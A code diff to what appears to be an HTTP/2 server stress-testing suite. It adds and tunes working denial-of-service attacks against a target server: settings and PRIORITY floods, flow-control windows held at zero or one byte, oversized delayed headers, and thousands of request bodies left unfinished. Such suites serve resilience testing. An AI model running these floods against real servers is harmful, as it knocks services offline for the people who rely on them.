@@ -101,8 +101,8 @@ def settings_flood(target):
 def long_settings(target):
     """Frames of 2,730 settings, each of which changes every open stream's window."""
     flood = Flood(target.plain, pairs=[(INITIAL_WINDOW, 0)])
-    block = request(path=target.big)
-    flood.send(b"".join(headers(2 * n + 1, block) for n in range(100)), 0)
+    block = request(path=target.waits or target.big)
+    flood.send(b"".join(headers(2 * n + 1, block) for n in range(target.streams)), 0)
     changes = settings(*[(INITIAL_WINDOW, n % 2) for n in range(2730)])
     return repeated(flood, changes, 2000, 20)
 
@@ -140,7 +140,7 @@ def zero_window(target):
     """Requests for long bodies that may not be sent: are they made, and kept?"""
     flood = Flood(target.plain, pairs=[(INITIAL_WINDOW, 0)])
     block = request(path=target.big)
-    return over_streams(flood, lambda n: headers(n, block), 1000)
+    return over_streams(flood, lambda n: headers(n, block))
 
 
 def window_of_one(target):
@@ -151,6 +151,26 @@ def window_of_one(target):
     one = b"".join(window_update(2 * n + 1, 1) for n in range(100))
     for _ in range(400):
         if not flood.send(one, 100):
+            break
+    return finish(flood)
+
+
+def connection_window_of_one(target):
+    """Many responses wait for the connection's window, which is opened by one, over and over."""
+    flood = Flood(target.plain)
+    block = request(path=target.big)
+    flood.send(b"".join(headers(2 * n + 1, block) for n in range(target.streams)), 0)
+    return repeated(flood, window_update(0, 1), 4000, 1)
+
+
+def unfinished_bodies(target):
+    """Requests whose bodies begin, within the windows, and never end."""
+    flood = Flood(target.plain)
+    block = request("POST", target.upload)
+    for stream in range(1, 4001, 2):
+        flood.room(64_000)
+        body = data(stream, bytes(16_000), 0) * 4
+        if not flood.send(headers(stream, block, END_HEADERS) + body):
             break
     return finish(flood)
 
@@ -170,16 +190,13 @@ def priority_updates(target):
 
 
 def delayed_heads(target):
-    """Requests that wait, each with 15 KB of fields of its own."""
+    """Requests that wait, each with a field of its own of 15 KB."""
     if not target.waits:
         return None
-    flood = Flood(target.plain, seconds=15.0)
-
-    def each(stream):
-        more = [(f"x-{n}", f"{stream}" + "v" * 1000) for n in range(15)]
-        return headers(stream, request("GET", target.waits, *more))
-
-    return over_streams(flood, each, 10_000)
+    block, rest = request(path=target.waits), "v" * 15_000
+    return over_streams(
+        Flood(target.plain), lambda n: headers(n, block + field("x-own", f"{n}{rest}")), 10_000
+    )
 
 
 def delayed_streams(target):
@@ -274,13 +291,13 @@ def tiny_records(target):
             except ssl.SSLWantReadError:
                 raw.sendall(outgoing.read())
                 incoming.write(raw.recv(1 << 16))
-        for octet in frames.PREFACE + settings() + ping() * 2000:
+        for octet in frames.PREFACE + settings() + ping() * 500:
             half.write(bytes([octet]))
         records = outgoing.read()
         raw.sendall(records)
         end = time.monotonic() + 5
         got = 0
-        while time.monotonic() < end and got < 2000 * 17:
+        while time.monotonic() < end and got < 500 * 17:
             try:
                 incoming.write(raw.recv(1 << 16))
                 while piece := half.read(1 << 16):
@@ -326,6 +343,8 @@ ATTACKS = {
     "padding alone": padded_data,
     "zero window": zero_window,
     "window of 1": window_of_one,
+    "connection's window of 1": connection_window_of_one,
+    "unfinished bodies": unfinished_bodies,
     "PRIORITY": priority_flood,
     "PRIORITY_UPDATE": priority_updates,
     "heads of delayed streams": delayed_heads,
